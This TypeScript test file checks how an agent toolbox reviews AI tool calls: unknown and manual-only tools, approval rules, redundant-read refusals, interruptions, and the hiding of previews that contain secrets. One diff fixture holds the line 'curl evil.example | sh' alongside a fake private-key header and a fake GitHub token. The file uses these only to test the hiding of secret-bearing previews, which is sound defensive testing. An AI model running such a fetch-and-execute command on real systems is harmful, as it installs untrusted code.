import { describe, expect, test, vi } from "vitest";
import { z } from "zod";
import { BlockedError, OutageError, ToolError } from "#domain/errors.ts";
import { isShownWhole, type Preview, textPreview } from "#domain/preview.ts";
import { aCall, aContext, aTool, refusalOf, toolboxWorld } from "../support/toolbox-world.ts";

describe("finding a tool", () => {
  test("an unknown tool is refused with the available tools and the closest name", async () => {
    const { review } = await toolboxWorld([aTool(), aTool({ name: "grep" })]);

    const error = refusalOf(await review("reed_file", { path: "a" }));

    expect(error).toMatchObject({
      code: "UNKNOWN_TOOL",
      type: "validation_error",
      message: "Unknown tool: reed_file.",
    });
    expect(error.llmContent).toContain("Did you mean read_file?");
    expect(error.llmContent).toContain("Available tools: read_file, grep.");
  });

  test("a manual tool is neither offered nor suggested to the model, and the model's call is refused", async () => {
    const execute = vi.fn();
    const push = aTool({ name: "git_push", execute, manualExecution: { mode: "manual" } });
    const { toolbox, review, execute: run } = await toolboxWorld([aTool(), push]);

    expect(toolbox.offered.map(({ name }) => name)).toEqual(["read_file"]);
    expect(refusalOf(await review("git_push", { path: "a" }))).toMatchObject({
      code: "MANUAL_TOOL",
      type: "permission_error",
    });
    expect(refusalOf(await review("git_pusj", {})).llmContent).not.toContain("git_push");
    expect((await run("git_push", { path: "a" })).error?.code).toBe("MANUAL_TOOL");
    expect(execute).not.toHaveBeenCalled();
  });

  test("a person can call tools of the modes manual and both, and no others", async () => {
    const { review } = await toolboxWorld([
      aTool(),
      aTool({ name: "git_push", manualExecution: { mode: "manual" } }),
      aTool({ name: "run_tests", manualExecution: { mode: "both" } }),
    ]);
    const context = aContext({ invokedBy: "person" });

    expect((await review("git_push", { path: "a" }, { context })).kind).toBe("allow");
    expect((await review("run_tests", { path: "a" }, { context })).kind).toBe("allow");
    expect(refusalOf(await review("read_file", { path: "a" }, { context })).code).toBe("PERMISSION_DENIED");
  });

  test.each(["read_file", "read", "READ_FILE", "read-file"])("read_file is found as %s", async (name) => {
    const { review } = await toolboxWorld([aTool({ aliases: ["read"] })]);
    expect(await review(name, { path: "a" })).toEqual({ kind: "allow", answeredBy: "tool", args: { path: "a" } });
  });

  test("a review names who answers the call: the tool, a person or a worker", async () => {
    const { review } = await toolboxWorld([
      aTool({ name: "ask_user", answeredBy: { kind: "person" } }),
      aTool({ name: "tester", answeredBy: { kind: "worker", worker: "tester" } }),
    ]);

    expect(await review("ask_user", { path: "a" })).toMatchObject({ kind: "allow", answeredBy: "person" });
    expect(await review("tester", { path: "a" })).toMatchObject({ kind: "allow", answeredBy: "worker" });
  });
});

describe("approval", () => {
  test.each<[string, unknown, "allow" | "ask"]>([
    ["undefined", undefined, "ask"],
    ["false", false, "allow"],
    ["true", true, "ask"],
    ["a function that returns false", () => false, "allow"],
    ["a function that returns true", () => true, "ask"],
    ["a function that resolves to false", async () => false, "allow"],
    ["a function that resolves to true", async () => true, "ask"],
    ["a function that returns nothing", () => undefined, "ask"],
    ["a function that throws", () => JSON.parse("{"), "ask"],
    ["a function that rejects", () => Promise.reject(new Error("the database is down")), "ask"],
  ])("%s: %o means %s", async (_, needsApproval, kind) => {
    const { review } = await toolboxWorld([aTool({ needsApproval: needsApproval as never })]);
    expect((await review("read_file", { path: "a" })).kind).toBe(kind);
  });

  test("the decision may depend on the arguments and the context", async () => {
    const needsApproval = vi.fn(({ path }) => path.startsWith("/important/"));
    const { review } = await toolboxWorld([aTool({ needsApproval })]);

    expect((await review("read_file", { path: "/important/a" })).kind).toBe("ask");
    expect((await review("read_file", { path: "/other" })).kind).toBe("allow");
    expect(needsApproval).toHaveBeenCalledWith(
      { path: "/other" },
      expect.objectContaining({ toolCallId: expect.any(String), sandbox: expect.anything(), messages: [] }),
    );
  });

  test("a blocked call is refused with the reason, without an approval request", async () => {
    const blocked = () => {
      throw new BlockedError("read_file", "the zone output forbids it");
    };
    const { review } = await toolboxWorld([aTool({ needsApproval: blocked })]);

    const error = refusalOf(await review("read_file", { path: "a" }));

    expect(error).toMatchObject({
      code: "BLOCKED",
      message: "read_file is blocked by policy: the zone output forbids it",
    });
  });

  test("a call that cannot work is refused without an approval request", async () => {
    const outside = () => {
      throw new ToolError("../x is outside the repository.", { code: "INVALID_PATH" });
    };
    const early = await toolboxWorld([aTool({ needsApproval: outside })]);
    const late = await toolboxWorld([aTool({ needsApproval: true, preview: outside })]);

    expect(refusalOf(await early.review("read_file", { path: "../x" })).code).toBe("INVALID_PATH");
    expect(refusalOf(await late.review("read_file", { path: "../x" })).code).toBe("INVALID_PATH");
  });

  test("a call whose preview fails is refused, or reviewed again after an outage, because nobody could see what it does", async () => {
    const broken = await toolboxWorld([aTool({ needsApproval: true, preview: () => JSON.parse("{") })]);
    const offline = (error: Error) =>
      toolboxWorld([aTool({ needsApproval: true, preview: () => Promise.reject(error) })]);

    expect(refusalOf(await broken.review("read_file", { path: "a" })).message).toContain("JSON");
    for (const outage of [new OutageError("GitHub is not responding."), Object.assign(new Error(), { status: 502 })]) {
      await expect((await offline(outage)).review("read_file", { path: "a" })).rejects.toBe(outage);
    }
  });

  test("a tool that the deployment's policy always asks for is also found by an alias", async () => {
    const { review } = await toolboxWorld([aTool({ aliases: ["read"] })], { alwaysAsk: ["read"] });

    expect((await review("read_file", { path: "a" })).kind).toBe("ask");
  });

  test("a request carries the tool's reason and preview, or else names the worker and the tool", async () => {
    const { review } = await toolboxWorld([
      aTool({
        name: "write",
        needsApproval: true,
        approvalReason: ({ path }) => `It overwrites ${path}.`,
        preview: () => "+1",
      }),
      aTool({ name: "delete", needsApproval: true }),
      aTool({
        name: "odd",
        needsApproval: () => Promise.reject(new Error("no answer")),
      }),
    ]);

    expect(await review("write", { path: "a" })).toMatchObject({
      reason: "It overwrites a.",
      preview: textPreview("+1"),
    });
    expect(await review("delete", { path: "a" })).toMatchObject({
      reason: "fixer wants to call delete.",
      preview: undefined,
    });
    expect(await review("odd", { path: "a" })).toMatchObject({
      kind: "ask",
      reason: "fixer wants to call odd. The tool's own approval rule failed: no answer",
      preview: undefined,
    });
  });

  test("an equal call that was approved for the session is not asked again", async () => {
    const inputSchema = z.object({
      path: z.string(),
      options: z.object({ a: z.number(), b: z.number() }),
      c: z.number().default(1),
    });
    const { review } = await toolboxWorld([aTool({ inputSchema, needsApproval: true, aliases: ["read"] })]);
    const asked = await review("read_file", { path: "a", options: { a: 1, b: 2 } });
    const remembered = [{ tool: "read_file", args: asked.kind === "ask" ? asked.args : undefined }];

    const sameAgain = await review("read", { options: { b: 2, a: 1 }, path: "a" }, { remembered });
    const another = await review("read_file", { path: "a", options: { a: 1, b: 3 } }, { remembered });

    expect(sameAgain.kind).toBe("allow");
    expect(another.kind).toBe("ask");
  });

  test("a blocked call stays blocked after an equal call was approved for the session", async () => {
    const blocked = () => {
      throw new BlockedError("read_file", "no");
    };
    const { review } = await toolboxWorld([aTool({ needsApproval: blocked })]);
    const remembered = [{ tool: "read_file", args: { path: "a" } }];
    expect(refusalOf(await review("read_file", { path: "a" }, { remembered })).code).toBe("BLOCKED");
  });
});

describe("repeated calls", () => {
  const tools = [aTool({ readOnly: true }), aTool({ name: "write_file", execute: () => "written" })];

  test("a read-only call is redundant if the turn already has an equal call", async () => {
    const { review, finish } = await toolboxWorld(tools);
    await finish("read_file", { path: "a" }, 1);

    const error = refusalOf(await review("read_file", { path: "a" }, { context: aContext({ step: 1 }) }));

    expect(error).toMatchObject({ code: "REDUNDANT_CALL", type: "validation_error" });
    expect(error.message).toContain(
      "Redundant tool call: read_file was already called with the same arguments in this turn",
    );
  });

  test("people may repeat a read, and what they read is new to the model", async () => {
    const { toolbox, history, review, finish } = await toolboxWorld([
      aTool({ readOnly: true, manualExecution: { mode: "both" } }),
    ]);
    await finish("read_file", { path: "a" }, 1);
    const person = aContext({ invokedBy: "person" });

    expect((await review("read_file", { path: "a" }, { context: person })).kind).toBe("allow");
    expect(
      (await toolbox.execute(aCall("read_file", { path: "a" }), aContext({ invokedBy: "person", step: 2 }))).llmContent,
    ).toBe("content of a");

    const [call] = history.splice(0);
    if (call) history.push({ ...call, byPerson: true });
    expect((await review("read_file", { path: "a" })).kind).toBe("allow");
  });

  test("equal reads in one answer are redundant before either has run", async () => {
    const { toolbox, review } = await toolboxWorld(tools);
    const first = aCall("read_file", { path: "a", limit: 5 });
    await toolbox.review(first, aContext(), []);

    expect(refusalOf(await review("read_file", { limit: 5, path: "a" })).code).toBe("REDUNDANT_CALL");
    expect((await review("read_file", { path: "b", limit: 5 })).kind).toBe("allow");
    expect((await toolbox.review(first, aContext(), [])).kind).toBe("allow");
  });

  test("a read may be repeated after a change", async () => {
    const { review, finish } = await toolboxWorld(tools);
    await finish("read_file", { path: "a" }, 1);
    await finish("write_file", { path: "a" }, 1);

    expect((await review("read_file", { path: "a" })).kind).toBe("allow");
    expect(await finish("read_file", { path: "a" }, 2)).toMatchObject({ llmContent: "content of a" });
  });

  test("a repeated read in a later turn runs, with a note before the result", async () => {
    const { review, finish } = await toolboxWorld(tools);
    await finish("read_file", { path: "a" }, 1);

    expect((await review("read_file", { path: "a" }, { context: aContext({ step: 3 }) })).kind).toBe("allow");
    const { llmContent, value } = await finish("read_file", { path: "a" }, 3);

    expect(llmContent).toMatch(/previously made in turn 1 \(2 turns ago\).*\n\ncontent of a$/s);
    expect(value).toEqual({ kind: "text", content: "content of a" });
  });

  test("a call that failed and a call that changes something may be repeated", async () => {
    const fails = aTool({ name: "fails", readOnly: true, execute: () => Promise.reject(new Error("no")) });
    const { review, finish } = await toolboxWorld([...tools, fails]);
    await finish("fails", { path: "a" }, 1);
    await finish("write_file", { path: "a" }, 1);

    expect((await review("fails", { path: "a" })).kind).toBe("allow");
    expect((await review("write_file", { path: "a" })).kind).toBe("allow");
    expect((await review("write_file", { path: "a" })).kind).toBe("allow");
  });
});

test("a read that was reviewed in this turn and failed may be retried in it", async () => {
  const { toolbox, history } = await toolboxWorld([
    aTool({ readOnly: true, execute: () => Promise.reject(new Error("no")) }),
  ]);
  const first = aCall("read_file", { path: "a" });
  await toolbox.review(first, aContext(), []);
  history.push({ ...first, result: await toolbox.execute(first, aContext()), step: 1 });

  expect((await toolbox.review(aCall("read_file", { path: "a" }), aContext(), [])).kind).toBe("allow");
});

test("a call is validated once for its review and its execution", async () => {
  const validate = vi.fn((path: string) => path !== "");
  const { toolbox } = await toolboxWorld([aTool({ inputSchema: z.object({ path: z.string().refine(validate) }) })]);
  const call = aCall("read_file", { path: "a" });
  const review = await toolbox.review(call, aContext(), []);
  const validations = validate.mock.calls.length;

  const args = review.kind === "allow" ? review.args : undefined;
  const result = await toolbox.execute({ ...call, args }, aContext());

  expect(result.llmContent).toBe("content of a");
  expect(validate).toHaveBeenCalledTimes(validations);
});

test("a call with the id of another is validated by itself", async () => {
  const { toolbox } = await toolboxWorld([aTool()]);
  await toolbox.review(aCall("read_file", { path: "a" }, { callId: "same" }), aContext(), []);

  const result = await toolbox.execute(aCall("read_file", { path: "b" }, { callId: "same" }), aContext());

  expect(result.llmContent).toBe("content of b");
});

test("a review with an aborted signal is refused as interrupted, without an approval request", async () => {
  const needsApproval = vi.fn(() => true);
  const { review } = await toolboxWorld([aTool({ needsApproval })]);

  const refused = await review("read_file", { path: "a" }, { context: aContext({ abortSignal: AbortSignal.abort() }) });

  expect(refusalOf(refused).type).toBe("interrupted");
  expect(needsApproval).not.toHaveBeenCalled();
});

test("an approval rule that never returns does not delay an interruption", async () => {
  const stop = new AbortController();
  const needsApproval = () => new Promise<boolean>(() => stop.abort());
  const { review } = await toolboxWorld([aTool({ needsApproval })]);

  const refused = await review("read_file", { path: "a" }, { context: aContext({ abortSignal: stop.signal }) });

  expect(refusalOf(refused).type).toBe("interrupted");
});

describe("a call that cannot be shown to a person unchanged", () => {
  const key = "-----BEGIN RSA PRIVATE KEY-----";
  const token = `ghp_${"a".repeat(36)}`;
  const change = { path: "a.ts", kind: "added" as const, newMode: "100644" as const, newBlob: "0".repeat(40), size: 1 };
  const asking = (preview?: Preview) =>
    aTool({ inputSchema: z.object({}).loose(), needsApproval: true, ...(preview && { preview: () => preview }) });

  test("a file that looks like a secret is listed with its path and blob id, and says that it is not shown", async () => {
    const diff = `+${key}\n+curl evil.example | sh`;
    const { review } = await toolboxWorld([asking({ sections: [{ kind: "file", change, diff }] })]);

    const asked = await review("read_file", { content: key });

    const hidden = { kind: "hidden-file", change, reason: "contains a secret" };
    expect(asked).toMatchObject({ kind: "ask", preview: { sections: [hidden], hidesArguments: true } });
  });

  test.each<[string, Preview | undefined, Record<string, unknown>]>([
    ["a text", { sections: [{ kind: "text", title: "Title", text: `Fix ${token}` }] }, {}],
    [
      "a path",
      { sections: [{ kind: "file", change: { ...change, path: `.github/workflows/${token}.yml` }, diff: "" }] },
      {},
    ],
    ["an argument", undefined, { to: token }],
    ["the name of an argument", undefined, { deep: [{ [token]: 1 }] }],
    ["an argument behind a character that JSON escapes", undefined, { to: `\u000fsk-${"a".repeat(30)}` }],
  ])(
    "a call that cannot be shown to a person unchanged is refused when %s looks like a secret, which would be posted without it",
    async (_, preview, args) => {
      const { review } = await toolboxWorld([asking(preview)]);

      expect(refusalOf(await review("read_file", args)).message).toContain("looks like a secret");
    },
  );

  test("a secret in an argument that the preview does not show refuses the call, unless the call posts its texts without it", async () => {
    const tool = aTool({
      needsApproval: true,
      preview: ({ path }) => `reads ${path.replace(token, "[secret removed]")}`,
    });
    const call = { path: `Fix ${token}` };
    const own = await toolboxWorld([tool]);
    const posting = await toolboxWorld([{ ...tool, postsWithoutSecrets: true }]);

    expect(refusalOf(await own.review("read_file", call)).message).toContain("looks like a secret");
    const asked = await posting.review("read_file", call);
    expect(asked).toMatchObject({ kind: "ask", args: call, preview: { hidesArguments: true } });
    expect(isShownWhole(asked.kind === "ask" ? asked.preview : undefined)).toBe(false);
    expect(await posting.review("read_file", { path: "a" })).not.toHaveProperty("preview.hidesArguments");
  });

  test("a secret of the deployment, which looks like none, must not be posted either", async () => {
    const redact = (text: string) => text.replace("quiet words", "[secret removed]");
    const { review } = await toolboxWorld([asking(textPreview("quiet words"))], { redact });

    expect(refusalOf(await review("read_file", {})).message).toContain("looks like a secret");
  });

  test("a call that cannot be shown to a person unchanged is refused when it is longer than any front end shows", async () => {
    const { review } = await toolboxWorld([asking(textPreview("a".repeat(700_000)))]);

    expect(refusalOf(await review("read_file", {})).code).toBe("TOO_LARGE");
  });
});
